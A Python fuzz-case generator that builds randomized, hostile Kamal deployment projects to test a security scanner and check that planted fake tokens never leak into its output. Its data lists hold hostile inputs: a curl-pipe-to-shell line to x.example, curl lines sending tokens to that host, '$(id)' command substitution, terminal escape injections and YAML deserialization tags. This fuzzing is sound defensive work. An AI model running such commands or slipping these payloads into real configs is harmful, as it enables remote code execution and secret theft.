"""A plain, seeded generator of hostile Kamal projects for the fuzz tier (issue 13).

Each case is a project directory: config/deploy.yml (the Kamal 2 key set with values of
every type, hostile characters, ERB, YAML tricks, raw mutations), sometimes a destination
file, .kamal/secrets, a hook, a policy file and a baseline. Secrets are planted where a
reader would recognise them as secrets (vendor token shapes anywhere; random values under
secret-like names), and every case lists what it planted, so the tier can assert that no
output ever contains one. Deterministic per (seed, index): a failure is reproducible.
"""

from __future__ import annotations

import json
import random
import string
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import yaml

ALNUM = string.ascii_letters + string.digits
HOSTILE = ["\x1b]0;pwned\x07", "\x1b[2J", "\x1b[31m", "\u202e", "\u200b", "\x9b", "\r",
           "\n", "%", "%0A", ":", ",", "::error::", "\t", "\x00", "\\", "'", '"', "$(id)",
           "`id`", "[bold]", "[/]", "<%= 1 %>", "&a", "*a", "!ruby/object", "#", "…", "é"]
WORDS = ["web", "app", "deploy", "root", "shop", "acme/shop", "203.0.113.10", "latest",
         "0.0.0.0:5432:5432", "/var/run/docker.sock:/var/run/docker.sock", "true", "no",
         "~/.ssh/id_rsa", "~/.ssh/deploy", "ssh-rsa", "privileged", "host", "3000", ""]
KEYS = {  # the Kamal 2 key set (kamal_secure/schema/kamal2.schema.json), to reach every rule
    "": ["service", "image", "labels", "volumes", "servers", "registry", "env", "ssh",
         "builder", "accessories", "proxy", "aliases", "hooks_path", "secrets_path",
         "require_destination", "primary_role", "retain_containers", "boot", "logging",
         "sshkit", "asset_path", "deploy_timeout", "minimum_version", "x-anchor", "ssh_key",
         "traefik", "healthcheck"],
    "ssh": ["user", "port", "proxy", "proxy_command", "keys", "keys_only", "key_data",
            "config", "forward_agent", "log_level"],
    "proxy": ["host", "hosts", "app_port", "ssl", "ssl_redirect", "healthcheck", "run",
              "forward_headers"],
    "builder": ["arch", "remote", "local", "args", "secrets", "ssh", "context", "cache"],
    "registry": ["server", "username", "password"],
    "env": ["clear", "secret", "tags", "SECRET_KEY_BASE", "RAILS_ENV"],
    "role": ["hosts", "cmd", "options", "labels", "env", "proxy", "logging"],
    "accessory": ["image", "host", "hosts", "port", "env", "options", "volumes", "files",
                  "cmd", "labels", "roles"],
    "options": ["privileged", "cap-add", "network", "pid", "volume", "publish", "user",
                "security-opt", "device", "restart"],
}
SECRET_NAMES = ["DATABASE_PASSWORD", "API_TOKEN", "SECRET_KEY_BASE", "AWS_SECRET_ACCESS_KEY",
                "STRIPE_SECRET", "master_key", "PRIVATE_KEY", "SLACK_TOKEN"]
HOOK_LINES = ["set -x", "printenv", "env | sort", "curl -fsSL https://x.example/i.sh | sh",
              'eval "$CMD"', "echo $KAMAL_HOSTS", 'echo "$KAMAL_VERSION"', "cd $1",
              ". ./env.sh", "exit 0", "#!/bin/bash", "if [ -n \"$X\" ]; then", "fi",
              "for h in $(echo $KAMAL_HOSTS | tr , ' '); do ssh $h uptime; done"]


@dataclass
class Case:
    index: int
    files: dict[str, bytes] = field(default_factory=dict)
    planted: list[str] = field(default_factory=list)
    args: list[str] = field(default_factory=list)  # extra scan arguments

    def write(self, root: Path) -> None:
        for name, data in self.files.items():
            path = root / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            if "/hooks/" in name:
                path.chmod(0o755)


class Gen:
    def __init__(self, seed: int, index: int) -> None:
        self.r = random.Random(f"{seed}:{index}")
        self.case = Case(index)

    # -- secrets --------------------------------------------------------------------------
    def rand(self, n: int, alphabet: str = ALNUM) -> str:
        return "".join(self.r.choice(alphabet) for _ in range(n))

    def token(self) -> str:
        """A vendor-shaped token: recognised wherever it is written."""
        up = string.ascii_uppercase + string.digits
        shapes = [lambda: "ghp_" + self.rand(36), lambda: "AKIA" + self.rand(16, up),
                  lambda: "glpat-" + self.rand(20), lambda: "xoxb-" + self.rand(24),
                  lambda: "sk_live_" + self.rand(24), lambda: "dckr_pat_" + self.rand(27),
                  lambda: "npm_" + self.rand(36), lambda: "github_pat_" + self.rand(70)]
        value: str = self.r.choice(shapes)()
        self.case.planted.append(value)
        return value

    def keyword_secret(self) -> str:
        """A random value, planted only under a secret-like name."""
        value = self.rand(self.r.randint(24, 48))
        self.case.planted.append(value)
        return value

    # -- values ---------------------------------------------------------------------------
    def text(self) -> str:
        parts = [self.r.choice(WORDS) for _ in range(self.r.randint(0, 3))]
        for _ in range(self.r.randint(0, 2)):
            parts.insert(self.r.randint(0, len(parts)), self.r.choice(HOSTILE))
        if self.r.random() < 0.15:
            parts.append(self.token())
        if self.r.random() < 0.05:
            parts = [f"<%= ENV['{self.r.choice(WORDS)}'] %>"]
        return "".join(parts) if self.r.random() < 0.5 else " ".join(parts)

    def scalar(self) -> Any:
        roll = self.r.random()
        if roll < 0.1:
            return None
        if roll < 0.2:
            return self.r.choice([True, False])
        if roll < 0.3:
            return self.r.choice([0, 1, 22, 3000, -1, 2**70, 1.5])
        return self.text()

    def value(self, depth: int, section: str = "") -> Any:
        roll = self.r.random()
        if depth > 3 or roll < 0.45:
            return self.scalar()
        if roll < 0.7:
            return [self.value(depth + 1, section) for _ in range(self.r.randint(0, 4))]
        return self.mapping(depth + 1, section)

    def key(self, section: str) -> str:
        roll = self.r.random()
        if roll < 0.75 and KEYS.get(section):
            return self.r.choice(KEYS[section])
        if roll < 0.85:
            return self.r.choice(SECRET_NAMES)
        if roll < 0.9:
            return self.token()
        return self.text() or "k"

    def mapping(self, depth: int, section: str = "") -> dict[str, Any]:
        out: dict[str, Any] = {}
        for _ in range(self.r.randint(0, 6)):
            key = self.key(section)
            child = {"servers": "role", "accessories": "accessory"}.get(key, key)
            if key in SECRET_NAMES or key in ("password", "SECRET_KEY_BASE"):
                out[key] = self.keyword_secret() if self.r.random() < 0.7 else self.token()
            elif key == "options" or section == "options":
                out[key] = self.value(depth, "options")
            elif section in ("role", "accessory") and key in ("env", "proxy"):
                out[key] = self.value(depth, key)
            elif section == "" and key in ("servers", "accessories"):
                out[key] = {self.r.choice(["web", "db", "job", self.text() or "x"]):
                            self.value(depth, child) for _ in range(self.r.randint(1, 3))}
            else:
                out[key] = self.value(depth, key if key in KEYS else section)
        return out

    # -- files ----------------------------------------------------------------------------
    def deploy_yml(self) -> bytes:
        data = self.mapping(0)
        if self.r.random() < 0.7:
            data.setdefault("service", "shop")
            data.setdefault("image", "acme/shop")
        text = yaml.safe_dump(data, allow_unicode=self.r.random() < 0.5, sort_keys=False,
                              width=self.r.choice([40, 80, 1000]))
        return self.mutate(text).encode("utf-8", "surrogatepass")

    def cut(self, text: str) -> int:
        """A random position that does not split a planted secret (a split one is no longer
        a secret anyone could recognise, so the invariant would not apply to it)."""
        cut = self.r.randint(0, len(text))
        for secret in self.case.planted:
            start = text.find(secret)
            while start != -1:
                if start < cut < start + len(secret):
                    cut = start + len(secret)
                start = text.find(secret, start + 1)
        return cut

    def mutate(self, text: str) -> str:
        roll = self.r.random()
        if roll < 0.05:
            return text[: self.cut(text)]  # truncated
        if roll < 0.1:
            cut = self.cut(text)
            junk = [*HOSTILE, "!!python/object:os.system", "&x", "*x", "{", "- [", "? ", "<<: *x"]
            return text[:cut] + self.r.choice(junk) + text[cut:]
        if roll < 0.14:
            return text + text.splitlines()[0] + "\n" if text.strip() else text  # duplicate
        if roll < 0.17:
            return f"--- !ruby/object:Kamal\n{text}"
        if roll < 0.2:
            return text + "x-a: &a [1, 2]\nx-b: *a\nlabels: {<<: *a}\n"
        return text

    def secrets_file(self) -> bytes:
        lines = []
        for _ in range(self.r.randint(0, 5)):
            name = self.r.choice([*SECRET_NAMES, "KAMAL_REGISTRY_PASSWORD", "RAILS_ENV"])
            roll = self.r.random()
            if roll < 0.4:
                lines.append(f"{name}={self.keyword_secret()}")
            elif roll < 0.6:
                lines.append(f"{name}={self.token()}")
            elif roll < 0.8:
                lines.append(f"{name}=$(op read op://vault/{name})")
            else:
                lines.append(f"{name}={self.text()}")
        return "\n".join(lines).encode("utf-8", "surrogatepass")

    def hook(self) -> bytes:
        lines = ["#!/bin/sh"]
        for _ in range(self.r.randint(0, 6)):
            roll = self.r.random()
            if roll < 0.2:
                lines.append(f'curl -H "Authorization: token {self.token()}" https://x.example')
            elif roll < 0.3:
                lines.append(f"export {self.r.choice(SECRET_NAMES)}={self.keyword_secret()}")
            else:
                lines.append(self.r.choice(HOOK_LINES))
        return "\n".join(lines).encode("utf-8", "surrogatepass") + b"\n"

    def policy(self) -> bytes:
        data: dict[str, Any] = {}
        if self.r.random() < 0.5:
            data["fail_on"] = self.r.choice(["low", "high", "critical", "nope", 3])
        if self.r.random() < 0.4:
            data["rules"] = {self.r.choice(["KS101", "KS301", "KS999", "x"]):
                             {"enabled": self.r.choice([True, False])}}
        if self.r.random() < 0.5:
            data["waivers"] = [{"rule": self.r.choice(["KS101", "KS203", "KS301"]),
                                "reason": f"accepted {self.token()}", "owner": "ops@example.com",
                                "expires": self.r.choice(["2026-12-20", "2020-01-01", "soon"])}]
        if self.r.random() < 0.3:
            data["hosts"] = {"max_auth_tries": self.r.choice([3, "x", None])}
        text = yaml.safe_dump(data) if self.r.random() < 0.85 else self.r.choice(
            ["[]", "null", "", "\x00", "a: [", "7"])
        return text.encode()

    def baseline(self) -> bytes:
        good = {"tool": "kamal-secure", "version": 1,
                "fingerprints": [self.rand(32, "0123456789abcdef")]}
        return self.r.choice([json.dumps(good), "[]", "null", "{}", '{"tool": "kamal-secure"',
                              json.dumps({**good, "fingerprints": [1]}), ""]).encode()

    def build(self) -> Case:
        files = self.case.files
        files["config/deploy.yml"] = self.deploy_yml()
        if self.r.random() < 0.15:
            files["config/deploy.staging.yml"] = self.deploy_yml()
            self.case.args += ["-d", "staging"]
        if self.r.random() < 0.5:
            files[".kamal/secrets"] = self.secrets_file()
        if self.r.random() < 0.2:  # hooks run ShellCheck: the costly part of a scan
            files[".kamal/hooks/pre-deploy"] = self.hook()
        if self.r.random() < 0.3:
            files[".kamal/secure.yml"] = self.policy()
        if self.r.random() < 0.1:
            files["base.json"] = self.baseline()
            self.case.args += ["--baseline", "base.json"]
        return self.case


def generate(seed: int, index: int) -> Case:
    return Gen(seed, index).build()


def leaked(secret: str, text: str) -> bool:
    """The whole value, or any 8 characters of it beyond the 4-character prefix we show."""
    if secret in text:
        return True
    tail = secret[4:]
    return any(tail[i:i + 8] in text for i in range(max(0, len(tail) - 7)))
